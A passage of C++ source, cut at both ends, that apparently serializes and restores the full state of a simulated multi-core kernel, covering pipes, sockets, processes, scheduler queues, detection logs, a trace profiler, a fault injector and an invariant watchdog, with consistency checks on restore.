    ar.value("host_closed", c.host_closed_);
    ar.value("bytes_to_host", c.bytes_to_host_);
    ar.end();
  }
  u32 npipe = static_cast<u32>(t.pipes.size());
  ar.value("pipes", npipe);
  if constexpr (Ar::reading) {
    t.pipes.clear();
    t.pipes.reserve(npipe);
  }
  for (u32 i = 0; i < npipe; ++i) {
    if constexpr (Ar::reading) {
      t.pipes.push_back(std::make_shared<kernel::Pipe>());
    }
    kernel::Pipe& p = *t.pipes[i];
    ar.begin("pipe");
    byte_deque(ar, "buf", p.buf_);
    ar.check(p.buf_.size() <= kernel::Pipe::kCapacity, "pipe over capacity");
    u32 readers = static_cast<u32>(p.readers_);
    u32 writers = static_cast<u32>(p.writers_);
    ar.value("readers", readers);
    ar.value("writers", writers);
    if constexpr (Ar::reading) {
      p.readers_ = static_cast<int>(readers);
      p.writers_ = static_cast<int>(writers);
    }
    // Block (FIFO) order of the wait queues is schedule-visible state.
    u32_seq(ar, "read_waiters", p.read_waiters);
    u32_seq(ar, "write_waiters", p.write_waiters);
    ar.end();
  }
  u32 nfile = static_cast<u32>(t.files.size());
  ar.value("files", nfile);
  if constexpr (Ar::reading) {
    t.files.clear();
    t.files.reserve(nfile);
  }
  for (u32 i = 0; i < nfile; ++i) {
    if constexpr (Ar::reading) {
      t.files.push_back(std::make_shared<kernel::FileNode>());
    }
    ar.begin("file");
    ar.value("data", t.files[i]->bytes);
    ar.end();
  }
  u32 nsock = static_cast<u32>(t.socks.size());
  ar.value("socks", nsock);
  if constexpr (Ar::reading) {
    t.socks.clear();
    t.socks.reserve(nsock);
  }
  for (u32 i = 0; i < nsock; ++i) {
    if constexpr (Ar::reading) {
      t.socks.push_back(std::make_shared<kernel::ListenSock>());
    }
    kernel::ListenSock& s = *t.socks[i];
    ar.begin("sock");
    ar.value("port", s.port);
    ar.value("capacity", s.capacity);
    u32 refs = static_cast<u32>(s.refs);
    ar.value("refs", refs);
    if constexpr (Ar::reading) s.refs = static_cast<int>(refs);
    // The backlog in queue (FIFO) order: each pending connection is a
    // pair of shared pipes referenced by table id.
    u32 nconn = static_cast<u32>(s.backlog.size());
    ar.value("backlog", nconn);
    ar.check(nconn <= s.capacity, "backlog over capacity");
    for (u32 j = 0; j < nconn; ++j) {
      ar.begin("conn");
      u32 c2s = 0, s2c = 0;
      if constexpr (!Ar::reading) {
        c2s = t.id_of(s.backlog[j].c2s.get());
        s2c = t.id_of(s.backlog[j].s2c.get());
      }
      ar.value("c2s", c2s);
      ar.value("s2c", s2c);
      if constexpr (Ar::reading) {
        ar.check(c2s < t.pipes.size() && s2c < t.pipes.size(),
                 "backlog references unknown pipe");
        s.backlog.push_back({t.pipes[c2s], t.pipes[s2c]});
      }
      ar.end();
    }
    u32_seq(ar, "accept_waiters", s.accept_waiters);
    ar.end();
  }
  ar.end();
}

template <class Ar>
void Access::fs(Ar& ar, kernel::Kernel& k, Tables& t) {
  ar.begin("fs");
  u32 n = static_cast<u32>(k.fs_.nodes_.size());
  ar.value("nodes", n);
  if constexpr (Ar::reading) {
    for (u32 i = 0; i < n; ++i) {
      ar.begin("node");
      std::string path;
      u32 id = 0;
      ar.value("path", path);
      ar.value("file", id);
      ar.check(id < t.files.size(), "fs node references unknown file");
      ar.check(k.fs_.nodes_.emplace(path, t.files[id]).second,
               "duplicate fs path");
      ar.end();
    }
  } else {
    for (const auto& [path, node] : k.fs_.nodes_) {
      ar.begin("node");
      std::string p = path;
      u32 id = t.id_of(node.get());
      ar.value("path", p);
      ar.value("file", id);
      ar.end();
    }
  }
  ar.end();
}

template <class Ar>
void Access::images(Ar& ar, kernel::Kernel& k) {
  ar.begin("images");
  u32 n = static_cast<u32>(k.images_.size());
  ar.value("count", n);
  if constexpr (Ar::reading) {
    for (u32 i = 0; i < n; ++i) {
      ar.begin("image");
      std::string name;
      std::vector<u8> blob;
      ar.value("name", name);
      ar.value("data", blob);
      image::Image img;
      try {
        img = image::Image::deserialize(blob);
      } catch (const std::exception& e) {
        ar.fail(std::string("bad image payload: ") + e.what());
      }
      // Bypasses register_image's signature re-check: the image was already
      // admitted when the saved kernel registered it.
      ar.check(k.images_.emplace(name, std::move(img)).second,
               "duplicate image name");
      ar.end();
    }
  } else {
    for (const auto& [name, img] : k.images_) {
      ar.begin("image");
      std::string nm = name;
      std::vector<u8> blob = img.serialize();
      ar.value("name", nm);
      ar.value("data", blob);
      ar.end();
    }
  }
  ar.end();
}

template <class Ar>
void Access::procs(Ar& ar, kernel::Kernel& k, Tables& t) {
  ar.begin("procs");
  u32 n = static_cast<u32>(k.procs_.size());
  ar.value("count", n);
  if constexpr (Ar::reading) {
    ar.check(n < (1u << 24), "implausible process count");
    k.procs_.reserve(n);
  }
  for (u32 i = 0; i < n; ++i) {
    std::unique_ptr<kernel::Process> up;
    if constexpr (Ar::reading) up = std::make_unique<kernel::Process>();
    kernel::Process& p = Ar::reading ? *up : *k.procs_[i];
    ar.begin("proc");
    ar.value("pid", p.pid);
    ar.check(p.pid == i + 1, "process slab out of pid order");
    ar.value("parent", p.parent);
    ar.value("name", p.name);
    enum_u8(ar, "state", p.state, 3);
    enum_u8(ar, "exit_kind", p.exit_kind, 4);
    ar.value("exit_code", p.exit_code);
    regs(ar, p.regs);

    bool has_as = p.as != nullptr;
    ar.value("has_as", has_as);
    if (has_as) {
      ar.begin("as");
      u32 root = Ar::reading ? 0 : p.as->root_;
      ar.value("root", root);
      ar.check(root < k.pm_.num_frames_, "address-space root out of range");
      if constexpr (Ar::reading) {
        // Adopt the root that already lives in restored physical memory.
        p.as = std::unique_ptr<kernel::AddressSpace>(new kernel::AddressSpace(
            k.pm_, root, kernel::AddressSpace::AdoptRoot{}));
      }
      kernel::AddressSpace& as = *p.as;
      ar.value("brk_end", as.brk_end);
      u32 nv = static_cast<u32>(as.vmas_.size());
      ar.value("vmas", nv);
      if constexpr (Ar::reading) {
        ar.check(nv < (1u << 20), "implausible VMA count");
        as.vmas_.resize(nv);
      }
      for (u32 j = 0; j < nv; ++j) {
        kernel::Vma& v = as.vmas_[j];
        ar.begin("vma");
        ar.value("start", v.start);
        ar.value("end", v.end);
        ar.value("prot", v.prot);
        enum_u8(ar, "kind", v.kind, 7);
        ar.value("name", v.name);
        bool has_backing = v.backing != nullptr;
        ar.value("has_backing", has_backing);
        if (has_backing) {
          if constexpr (Ar::reading) {
            std::vector<u8> blob;
            ar.value("backing", blob);
            v.backing =
                std::make_shared<const std::vector<u8>>(std::move(blob));
          } else {
            ar.bytes("backing", *v.backing);
          }
        }
        ar.value("backing_offset", v.backing_offset);
        ar.end();
      }
      u32 ns = static_cast<u32>(as.split_pages_.size());
      ar.value("splits", ns);
      if constexpr (Ar::reading) {
        for (u32 j = 0; j < ns; ++j) {
          ar.begin("split");
          u32 vpn = 0;
          kernel::SplitPair pair;
          ar.value("vpn", vpn);
          ar.value("code_frame", pair.code_frame);
          ar.value("data_frame", pair.data_frame);
          ar.check(pair.code_frame < k.pm_.num_frames_ &&
                       pair.data_frame < k.pm_.num_frames_,
                   "split pair frame out of range");
          ar.check(as.split_pages_.emplace(vpn, pair).second,
                   "duplicate split page");
          ar.end();
        }
      } else {
        for (auto& [vpn, pair] : as.split_pages_) {
          ar.begin("split");
          u32 v = vpn;
          ar.value("vpn", v);
          ar.value("code_frame", pair.code_frame);
          ar.value("data_frame", pair.data_frame);
          ar.end();
        }
      }
      ar.end();
    }

    u32 nfd = static_cast<u32>(p.fds.size());
    ar.value("fds", nfd);
    if constexpr (Ar::reading) {
      ar.check(nfd < (1u << 20), "implausible fd count");
      p.fds.resize(nfd);
    }
    for (u32 j = 0; j < nfd; ++j) {
      ar.begin("fd");
      u8 tag = static_cast<u8>(p.fds[j].index());
      ar.value("tag", tag);
      ar.check(tag < 8, "fd tag out of range");
      switch (tag) {
        case 0:
          if constexpr (Ar::reading) p.fds[j] = std::monostate{};
          break;
        case 1: {
          u32 id = Ar::reading
                       ? 0
                       : t.id_of(std::get<kernel::FdChannel>(p.fds[j]).chan.get());
          ar.value("chan", id);
          if constexpr (Ar::reading) {
            ar.check(id < t.channels.size(), "fd references unknown channel");
            p.fds[j] = kernel::FdChannel{t.channels[id]};
          }
          break;
        }
        case 2:
          if constexpr (Ar::reading) p.fds[j] = kernel::FdConsole{};
          break;
        case 3:
        case 4: {
          u32 id = 0;
          if constexpr (!Ar::reading) {
            id = tag == 3
                     ? t.id_of(std::get<kernel::FdPipeRead>(p.fds[j]).pipe.get())
                     : t.id_of(
                           std::get<kernel::FdPipeWrite>(p.fds[j]).pipe.get());
          }
          ar.value("pipe", id);
          if constexpr (Ar::reading) {
            ar.check(id < t.pipes.size(), "fd references unknown pipe");
            if (tag == 3) {
              p.fds[j] = kernel::FdPipeRead{t.pipes[id]};
            } else {
              p.fds[j] = kernel::FdPipeWrite{t.pipes[id]};
            }
          }
          break;
        }
        case 5: {
          kernel::FdFile f;
          if constexpr (!Ar::reading) f = std::get<kernel::FdFile>(p.fds[j]);
          u32 id = Ar::reading ? 0 : t.id_of(f.node.get());
          ar.value("file", id);
          ar.value("offset", f.offset);
          ar.value("writable", f.writable);
          if constexpr (Ar::reading) {
            ar.check(id < t.files.size(), "fd references unknown file");
            f.node = t.files[id];
            p.fds[j] = std::move(f);
          }
          break;
        }
        case 6: {
          u32 id = Ar::reading
                       ? 0
                       : t.id_of(std::get<kernel::FdListen>(p.fds[j]).sock.get());
          ar.value("sock", id);
          if constexpr (Ar::reading) {
            ar.check(id < t.socks.size(), "fd references unknown listen sock");
            p.fds[j] = kernel::FdListen{t.socks[id]};
          }
          break;
        }
        case 7: {
          u32 rx = 0, tx = 0;
          if constexpr (!Ar::reading) {
            rx = t.id_of(std::get<kernel::FdSock>(p.fds[j]).rx.get());
            tx = t.id_of(std::get<kernel::FdSock>(p.fds[j]).tx.get());
          }
          ar.value("rx", rx);
          ar.value("tx", tx);
          if constexpr (Ar::reading) {
            ar.check(rx < t.pipes.size() && tx < t.pipes.size(),
                     "fd references unknown pipe");
            p.fds[j] = kernel::FdSock{t.pipes[rx], t.pipes[tx]};
          }
          break;
        }
      }
      ar.end();
    }

    u8 wtag = static_cast<u8>(p.waiting.index());
    ar.value("wait", wtag);
    ar.check(wtag < 6, "wait tag out of range");
    switch (wtag) {
      case 0:
        if constexpr (Ar::reading) p.waiting = kernel::WaitNone{};
        break;
      case 1: {
        kernel::WaitReadFd w{};
        if constexpr (!Ar::reading) w = std::get<kernel::WaitReadFd>(p.waiting);
        ar.value("fd", w.fd);
        if constexpr (Ar::reading) p.waiting = w;
        break;
      }
      case 2: {
        kernel::WaitWriteFd w{};
        if constexpr (!Ar::reading) {
          w = std::get<kernel::WaitWriteFd>(p.waiting);
        }
        ar.value("fd", w.fd);
        if constexpr (Ar::reading) p.waiting = w;
        break;
      }
      case 3: {
        kernel::WaitChild w{};
        if constexpr (!Ar::reading) w = std::get<kernel::WaitChild>(p.waiting);
        ar.value("pid", w.pid);
        if constexpr (Ar::reading) p.waiting = w;
        break;
      }
      case 4: {
        kernel::WaitSelect2 w{};
        if constexpr (!Ar::reading) {
          w = std::get<kernel::WaitSelect2>(p.waiting);
        }
        ar.value("fd_a", w.fd_a);
        ar.value("fd_b", w.fd_b);
        if constexpr (Ar::reading) p.waiting = w;
        break;
      }
      case 5:
        if constexpr (Ar::reading) p.waiting = kernel::WaitSleep{};
        break;
    }
    ar.value("retry_syscall", p.retry_syscall);
    // The timer wheel itself is never serialized: wait_deadline is the
    // authoritative per-process record, and restore rebuilds the wheel
    // from it (machine(), after procs are in place).
    ar.value("wait_deadline", p.wait_deadline);
    ar.value("timed_out", p.timed_out);
    u32_seq(ar, "exit_waiters", p.exit_waiters);

    bool has_pending = p.pending_split_vaddr.has_value();
    ar.value("has_pending_split", has_pending);
    if (has_pending) {
      u32 v = Ar::reading ? 0 : *p.pending_split_vaddr;
      ar.value("pending_split_vaddr", v);
      if constexpr (Ar::reading) p.pending_split_vaddr = v;
    }
    ar.value("shell_spawned", p.shell_spawned);
    bool has_recovery = p.recovery_handler.has_value();
    ar.value("has_recovery", has_recovery);
    if (has_recovery) {
      u32 v = Ar::reading ? 0 : *p.recovery_handler;
      ar.value("recovery_handler", v);
      if constexpr (Ar::reading) p.recovery_handler = v;
    }

    // Console can outgrow the string cap; store as bytes.
    if constexpr (Ar::reading) {
      std::vector<u8> c;
      ar.value("console", c);
      p.console.assign(c.begin(), c.end());
    } else {
      ar.bytes("console",
               std::span<const u8>(
                   reinterpret_cast<const u8*>(p.console.data()),
                   p.console.size()));
    }

    // Syscall trace: 4 u32 per record, packed.
    {
      std::vector<u32> flat;
      if constexpr (!Ar::reading) {
        flat.reserve(p.syscall_trace.size() * 4);
        for (const kernel::SyscallRecord& r : p.syscall_trace) {
          flat.push_back(r.num);
          flat.push_back(r.a1);
          flat.push_back(r.a2);
          flat.push_back(r.a3);
        }
      }
      u32_seq(ar, "syscall_trace", flat);
      if constexpr (Ar::reading) {
        ar.check(flat.size() % 4 == 0, "syscall trace length");
        p.syscall_trace.clear();
        p.syscall_trace.reserve(flat.size() / 4);
        for (std::size_t j = 0; j + 3 < flat.size(); j += 4) {
          p.syscall_trace.push_back(
              {flat[j], flat[j + 1], flat[j + 2], flat[j + 3]});
        }
      }
    }

    bool has_digest = p.exit_digest.has_value();
    ar.value("has_exit_digest", has_digest);
    if (has_digest) {
      if constexpr (Ar::reading) {
        image::Digest d{};
        ar.bytes_into("exit_digest", std::span<u8>(d.data(), d.size()));
        p.exit_digest = d;
      } else {
        ar.bytes("exit_digest",
                 std::span<const u8>(p.exit_digest->data(),
                                     p.exit_digest->size()));
      }
    }

    // The free-fd min-heap, canonicalized to ascending order (the pop
    // order, which is the only observable property of the heap).
    {
      std::vector<u32> free_fds;
      if constexpr (!Ar::reading) {
        auto heap = p.free_fds;
        while (!heap.empty()) {
          free_fds.push_back(heap.top());
          heap.pop();
        }
      }
      u32_seq(ar, "free_fds", free_fds);
      if constexpr (Ar::reading) {
        for (const u32 f : free_fds) p.free_fds.push(f);
      }
    }
    ar.value("fd_alloc_probes", p.fd_alloc_probes);
    ar.end();
    if constexpr (Ar::reading) {
      if (p.alive()) ++k.live_procs_;
      k.procs_.push_back(std::move(up));
    }
  }
  ar.end();
}

template <class Ar>
void Access::sched(Ar& ar, kernel::Kernel& k) {
  ar.begin("sched");
  ar.value("next_pid", k.next_pid_);
  ar.check(k.next_pid_ == k.procs_.size() + 1, "next_pid disagrees with slab");
  u32 live = k.live_procs_;
  ar.value("live_procs", live);
  ar.check(live == k.live_procs_, "live_procs disagrees with process states");
  ar.value("rng_state", k.rng_state_);
  ar.value("active_core", k.active_core_);
  ar.check(k.active_core_ < k.cores_.size(), "active core out of range");
  ar.value("quantum_used", k.quantum_used_);

  const auto opt_pid = [&](const char* has_name, const char* pid_name,
                           std::optional<kernel::Pid>& o) {
    bool has = o.has_value();
    ar.value(has_name, has);
    if (has) {
      u32 pid = Ar::reading ? 0 : *o;
      ar.value(pid_name, pid);
      if constexpr (Ar::reading) {
        ar.check(pid >= 1 && pid <= k.procs_.size(), "pid out of range");
        o = pid;
      }
    } else {
      if constexpr (Ar::reading) o.reset();
    }
  };
  // Per-core scheduler state: current/last pid, slice progress, and the
  // runqueue in FIFO order; restore re-pushes through the normal path so
  // the intrusive links and on_runqueue/rq_core flags are rebuilt
  // consistently.
  for (auto& cp : k.cores_) {
    ar.begin("core_sched");
    ar.value("slice_used", cp->slice_used);
    opt_pid("has_current", "current", cp->current);
    opt_pid("has_last_running", "last_running", cp->last_running);
    std::vector<u32> rq;
    if constexpr (!Ar::reading) {
      for (kernel::Process* p = cp->runqueue.head; p != nullptr;
           p = p->rq_next) {
        rq.push_back(p->pid);
      }
    }
    u32_seq(ar, "runqueue", rq);
    if constexpr (Ar::reading) {
      for (const u32 pid : rq) {
        kernel::Process* p = k.process(pid);
        ar.check(p != nullptr, "runqueue references unknown pid");
        ar.check(p->state == kernel::ProcState::kRunnable,
                 "runqueue entry not runnable");
        ar.check(!p->on_runqueue, "pid queued twice");
        cp->runqueue.push_back(*p);
      }
    }
    ar.end();
  }
  // Shootdowns whose IPI retries were exhausted (armed drop faults); the
  // watchdog completes them. Empty except mid-fault-campaign.
  u32 nps = static_cast<u32>(k.pending_shootdowns_.size());
  ar.value("pending_shootdowns", nps);
  if constexpr (Ar::reading) {
    ar.check(nps < (1u << 20), "implausible pending-shootdown count");
    k.pending_shootdowns_.assign(nps, kernel::Kernel::PendingShootdown{});
  }
  for (u32 i = 0; i < nps; ++i) {
    kernel::Kernel::PendingShootdown& ps = k.pending_shootdowns_[i];
    ar.begin("shootdown");
    ar.value("vpn", ps.vpn);
    ar.value("root", ps.root);
    ar.value("core_mask", ps.core_mask);
    ar.end();
  }
  u32_seq(ar, "channel_waiters", k.channel_waiters_);
  if constexpr (Ar::reading) {
    for (const u32 pid : k.channel_waiters_) {
      ar.check(pid >= 1 && pid <= k.procs_.size(),
               "channel waiter out of range");
    }
  }
  ar.end();
}

template <class Ar>
void Access::logs(Ar& ar, kernel::Kernel& k) {
  ar.begin("log");
  u32 n = static_cast<u32>(k.klog_.size());
  ar.value("lines", n);
  if constexpr (Ar::reading) k.klog_.resize(n);
  for (u32 i = 0; i < n; ++i) ar.value("line", k.klog_[i]);
  u32 nd = static_cast<u32>(k.detections_.size());
  ar.value("detections", nd);
  if constexpr (Ar::reading) k.detections_.resize(nd);
  for (u32 i = 0; i < nd; ++i) {
    kernel::DetectionEvent& d = k.detections_[i];
    ar.begin("detection");
    ar.value("pid", d.pid);
    ar.value("process", d.process);
    ar.value("eip", d.eip);
    ar.value("cycles", d.cycles);
    ar.value("mode", d.mode);
    ar.value("shellcode", d.shellcode);
    ar.value("disassembly", d.disassembly);
    ar.end();
  }
  ar.end();
}

template <class Ar>
void Access::trace_state(Ar& ar, kernel::Kernel& k) {
  ar.begin("trace");
  bool present = k.trace_ptr_ != nullptr;
  ar.value("present", present);
  if constexpr (Ar::reading) {
    // config.trace already matched, but a build with the trace layer
    // compiled out never enables the sink; reject the asymmetric restore.
    ar.check(present == (k.trace_ptr_ != nullptr),
             "trace sink presence mismatch (SM_TRACE build difference?)");
  }
  if (present && k.trace_ptr_ != nullptr) {
    trace::TraceSink& ts = k.trace_;
    ar.value("pid", ts.pid_);

    u64 cap = ts.ring_.buf_.size();
    ar.value("ring_capacity", cap);
    ar.check(cap == ts.ring_.buf_.size(), "trace ring capacity mismatch");
    u64 size = ts.ring_.size_;
    ar.value("ring_size", size);
    ar.check(size <= cap, "ring size over capacity");
    ar.value("ring_dropped", ts.ring_.dropped_);
    // Events, canonicalized oldest-to-newest (head_ = 0 after restore —
    // rotation is unobservable through the ring's API).
    constexpr std::size_t kEvSize = 23;
    if constexpr (Ar::reading) {
      std::vector<u8> blob;
      ar.value("events", blob);
      ar.check(blob.size() == size * kEvSize, "event payload length");
      ts.ring_.buf_.assign(static_cast<std::size_t>(cap), trace::Event{});
      ts.ring_.head_ = 0;
      ts.ring_.size_ = static_cast<std::size_t>(size);
      for (u64 i = 0; i < size; ++i) {
        const u8* b = blob.data() + i * kEvSize;
        trace::Event e;
        u64 cyc = 0;
        for (int q = 7; q >= 0; --q) cyc = cyc << 8 | b[q];
        e.cycles = cyc;
        e.pid = b[8] | b[9] << 8 | b[10] << 16 | static_cast<u32>(b[11]) << 24;
        e.vaddr =
            b[12] | b[13] << 8 | b[14] << 16 | static_cast<u32>(b[15]) << 24;
        e.info =
            b[16] | b[17] << 8 | b[18] << 16 | static_cast<u32>(b[19]) << 24;
        ar.check(b[20] < static_cast<u8>(trace::EventKind::kCount),
                 "event kind out of range");
        e.kind = static_cast<trace::EventKind>(b[20]);
        e.arg = b[21];
        e.core = b[22];
        ts.ring_.buf_[static_cast<std::size_t>(i)] = e;
      }
    } else {
      std::vector<u8> blob;
      blob.reserve(static_cast<std::size_t>(size) * kEvSize);
      for (u64 i = 0; i < size; ++i) {
        const trace::Event& e = ts.ring_[static_cast<std::size_t>(i)];
        for (int q = 0; q < 8; ++q) {
          blob.push_back(static_cast<u8>(e.cycles >> (q * 8)));
        }
        for (int q = 0; q < 4; ++q) {
          blob.push_back(static_cast<u8>(e.pid >> (q * 8)));
        }
        for (int q = 0; q < 4; ++q) {
          blob.push_back(static_cast<u8>(e.vaddr >> (q * 8)));
        }
        for (int q = 0; q < 4; ++q) {
          blob.push_back(static_cast<u8>(e.info >> (q * 8)));
        }
        blob.push_back(static_cast<u8>(e.kind));
        blob.push_back(e.arg);
        blob.push_back(e.core);
      }
      ar.bytes("events", blob);
    }

    // Profiler. Unordered maps serialize in sorted key order so
    // save -> restore -> save is byte-identical.
    trace::Profiler& pf = ts.prof_;
    {
      std::vector<std::pair<u64, u64>> sorted;
      if constexpr (!Ar::reading) {
        sorted.assign(pf.buckets_.begin(), pf.buckets_.end());
        std::ranges::sort(sorted);
      }
      u32 nb = static_cast<u32>(sorted.size());
      ar.value("buckets", nb);
      if constexpr (Ar::reading) {
        pf.buckets_.clear();
        for (u32 i = 0; i < nb; ++i) {
          ar.begin("bucket");
          u64 key = 0, cycles = 0;
          ar.value("key", key);
          ar.value("cycles", cycles);
          ar.check(pf.buckets_.emplace(key, cycles).second,
                   "duplicate profile bucket");
          ar.end();
        }
      } else {
        for (auto& [key, cycles] : sorted) {
          ar.begin("bucket");
          ar.value("key", key);
          ar.value("cycles", cycles);
          ar.end();
        }
      }
    }
    {
      std::vector<std::pair<u64, trace::Profiler::Fill>> sorted;
      if constexpr (!Ar::reading) {
        sorted.assign(pf.fills_.begin(), pf.fills_.end());
        std::ranges::sort(sorted, {}, [](const auto& kv) { return kv.first; });
      }
      u32 nf = static_cast<u32>(sorted.size());
      ar.value("fills", nf);
      if constexpr (Ar::reading) {
        pf.fills_.clear();
        for (u32 i = 0; i < nf; ++i) {
          ar.begin("fill");
          u64 key = 0;
          trace::Profiler::Fill f;
          ar.value("key", key);
          ar.value("epoch", f.epoch);
          ar.value("invalidated", f.invalidated);
          ar.check(pf.fills_.emplace(key, f).second, "duplicate fill record");
          ar.end();
        }
      } else {
        for (auto& [key, f] : sorted) {
          ar.begin("fill");
          u64 kk = key;
          ar.value("key", kk);
          ar.value("epoch", f.epoch);
          ar.value("invalidated", f.invalidated);
          ar.end();
        }
      }
    }
    {
      // The Algorithm-2 trace-scope hand-off: attribution for the debug
      // trap that will close each open single-step window. Must survive
      // serialization for mid-window snapshots to bill identically.
      std::vector<std::pair<u32, std::pair<trace::Category, trace::Cause>>>
          sorted;
      if constexpr (!Ar::reading) {
        sorted.assign(pf.pending_step_.begin(), pf.pending_step_.end());
        std::ranges::sort(sorted, {}, [](const auto& kv) { return kv.first; });
      }
      u32 np = static_cast<u32>(sorted.size());
      ar.value("pending_steps", np);
      if constexpr (Ar::reading) {
        pf.pending_step_.clear();
        for (u32 i = 0; i < np; ++i) {
          ar.begin("pending_step");
          u32 pid = 0;
          auto cat = trace::Category::kOther;
          auto cause = trace::Cause::kNone;
          ar.value("pid", pid);
          enum_u8(ar, "category", cat,
                  static_cast<u8>(trace::Category::kCount));
          enum_u8(ar, "cause", cause, static_cast<u8>(trace::Cause::kCount));
          ar.check(pf.pending_step_.emplace(pid, std::pair{cat, cause}).second,
                   "duplicate pending step");
          ar.end();
        }
      } else {
        for (auto& [pid, cc] : sorted) {
          ar.begin("pending_step");
          u32 pp = pid;
          ar.value("pid", pp);
          enum_u8(ar, "category", cc.first,
                  static_cast<u8>(trace::Category::kCount));
          enum_u8(ar, "cause", cc.second,
                  static_cast<u8>(trace::Cause::kCount));
          ar.end();
        }
      }
    }
    u64_array(ar, "event_counts",
              std::span<u64>(pf.event_counts_.data(), pf.event_counts_.size()));
    ar.value("flush_epoch", pf.flush_epoch_);
    ar.value("total_cycles", pf.total_cycles_);
    bool scope_active = pf.scope_.active;
    ar.value("scope_active", scope_active);
    ar.check(!scope_active, "snapshot taken inside an open trace scope");
    if constexpr (Ar::reading) pf.scope_ = trace::Profiler::Scope{};
  }
  ar.end();
}

template <class Ar>
void Access::injector(Ar& ar, kernel::Kernel& k, inject::FaultInjector* inj) {
  ar.begin("injector");
  bool present = inj != nullptr;
  ar.value("present", present);
  if constexpr (Ar::reading) {
    ar.check(present == (inj != nullptr),
             "fault-injector attachment mismatch: attach the same hooks "
             "before restoring");
  }
  if (present && inj != nullptr) {
    if constexpr (Ar::reading) {
      ar.check(inj->kernel_ == &k, "injector not attached to this kernel");
    }
    ar.value("seed", inj->schedule_.seed);
    u32 n = static_cast<u32>(inj->schedule_.faults.size());
    ar.value("faults", n);
    if constexpr (Ar::reading) {
      ar.check(n < (1u << 24), "implausible fault count");
      inj->schedule_.faults.resize(n);
      inj->records_.assign(n, inject::FaultInjector::Record{});
    }
    for (u32 i = 0; i < n; ++i) {
      inject::ScheduledFault& f = inj->schedule_.faults[i];
      ar.begin("fault");
      ar.value("after", f.after_instruction);
      enum_u8(ar, "kind", f.kind, static_cast<u8>(inject::FaultKind::kCount));
      ar.value("arg", f.arg);
      ar.end();
      if constexpr (Ar::reading) inj->records_[i].fault = f;
    }
    for (u32 i = 0; i < n; ++i) {
      inject::FaultInjector::Record& r = inj->records_[i];
      ar.begin("record");
      ar.value("fired", r.fired);
      ar.value("fired_at", r.fired_at);
      bool has_outcome = r.outcome.has_value();
      ar.value("has_outcome", has_outcome);
      if (has_outcome) {
        auto o = Ar::reading ? inject::Outcome::kRecovered : *r.outcome;
        enum_u8(ar, "outcome", o, 3);
        if constexpr (Ar::reading) r.outcome = o;
      } else {
        if constexpr (Ar::reading) r.outcome.reset();
      }
      ar.end();
    }
    ar.value("next", inj->next_);
    ar.check(inj->next_ <= n, "schedule cursor past the end");
    const auto armed = [&](const char* name, std::vector<u32>& q) {
      u32_seq(ar, name, q);
      if constexpr (Ar::reading) {
        for (const u32 i : q) ar.check(i < n, "armed index out of range");
      }
    };
    armed("armed_drop_flush", inj->armed_drop_flush_);
    armed("armed_drop_invlpg", inj->armed_drop_invlpg_);
    armed("armed_alloc_fail", inj->armed_alloc_fail_);
    armed("armed_lost_trap", inj->armed_lost_trap_);
    armed("armed_dup_trap", inj->armed_dup_trap_);
    armed("armed_preempt", inj->armed_preempt_);
    armed("armed_tf_clear", inj->armed_tf_clear_);
    armed("armed_drop_ipi", inj->armed_drop_ipi_);
    armed("armed_ack_no_flush", inj->armed_ack_no_flush_);
    armed("armed_stall", inj->armed_stall_);
    armed("armed_drop_conn", inj->armed_drop_conn_);
  }
  ar.end();
}

template <class Ar>
void Access::watchdog(Ar& ar, invariant::InvariantWatchdog* wd) {
  ar.begin("watchdog");
  bool present = wd != nullptr;
  ar.value("present", present);
  if constexpr (Ar::reading) {
    ar.check(present == (wd != nullptr),
             "watchdog attachment mismatch: attach the same hooks before "
             "restoring");
  }
  if (present && wd != nullptr) {
    // Per-core TLB version counters at the last audit (lazily sized in
    // pre_step, so the vectors may legitimately be empty or short).
    const auto version_vec = [&](const char* name, std::vector<u64>& v) {
      u32 nc = static_cast<u32>(v.size());
      ar.value(name, nc);
      if constexpr (Ar::reading) {
        ar.check(nc <= 32, "implausible watchdog core count");
        v.assign(nc, 0);
      }
      for (u32 i = 0; i < nc; ++i) ar.value("version", v[i]);
    };
    version_vec("itlb_versions", wd->core_itlb_versions_);
    version_vec("dtlb_versions", wd->core_dtlb_versions_);
    ar.value("last_pid", wd->last_pid_);
    ar.value("steps_since_audit", wd->steps_since_audit_);
    ar.value("degraded_since_resolve", wd->degraded_since_resolve_);
    u32 n = static_cast<u32>(wd->repairs_.size());
    ar.value("repairs", n);
    if constexpr (Ar::reading) {
      wd->repairs_.clear();
      for (u32 i = 0; i < n; ++i) {
        ar.begin("repair");
        u64 key = 0;
        u32 count = 0;
        ar.value("key", key);
        ar.value("count", count);
        ar.check(wd->repairs_.emplace(key, count).second, "duplicate repair");
        ar.end();
      }
      wd->scan_vpns_.clear();
    } else {
      for (auto& [key, count] : wd->repairs_) {
        ar.begin("repair");
        u64 kk = key;
        ar.value("key", kk);
        ar.value("count", count);
        ar.end();
      }
    }
    ar.value("violations", wd->violations_);
    ar.value("recoveries", wd->recoveries_);
    ar.value("degradations", wd->degradations_);
    ar.value("breaches", wd->breaches_);
  }
  ar.end();
}

// --- whole-machine schema + restore safety ---------------------------------

template <class Ar>
void Access::machine(Ar& ar, kernel::Kernel& k, inject::FaultInjector* inj,
                     invariant::InvariantWatchdog* wd) {
  ar.begin("machine");
  config(ar, k);
  if constexpr (Ar::reading) {
    // Teardown: release the old state into the OLD (still consistent)
    // physical memory before frames are overwritten.
    k.procs_.clear();
    for (auto& cp : k.cores_) {
      cp->runqueue = kernel::Kernel::RunQueue{};
      cp->runqueue.core_id = cp->id;
      cp->current.reset();
      cp->last_running.reset();
      cp->slice_used = 0;
    }
    k.active_core_ = 0;
    k.quantum_used_ = 0;
    k.pending_shootdowns_.clear();
    k.channel_waiters_.clear();
    k.timers_.clear();
    k.listen_ports_.clear();
    k.images_.clear();
    k.fs_ = kernel::FileSystem{};
    k.klog_.clear();
    k.detections_.clear();
    k.live_procs_ = 0;
  }
  phys(ar, k.pm_);
  // One machine group per core: its private MMU (both TLBs) and register
  // file. The config "cores" key already guaranteed matching counts.
  for (auto& cp : k.cores_) {
    ar.begin("core");
    u32 id = cp->id;
    ar.value("id", id);
    ar.check(id == cp->id, "core id mismatch");
    mmu(ar, cp->mmu);
    ar.begin("cpu");
    regs(ar, cp->cpu.regs());
    ar.end();
    ar.end();
  }
  stats(ar, k.stats_);
  Tables t;
  if constexpr (!Ar::reading) t = collect(k);
  objects(ar, t);
  fs(ar, k, t);
  images(ar, k);
  procs(ar, k, t);
  if constexpr (Ar::reading) {
    // Rebuild the derived kernel indexes the snapshot deliberately omits:
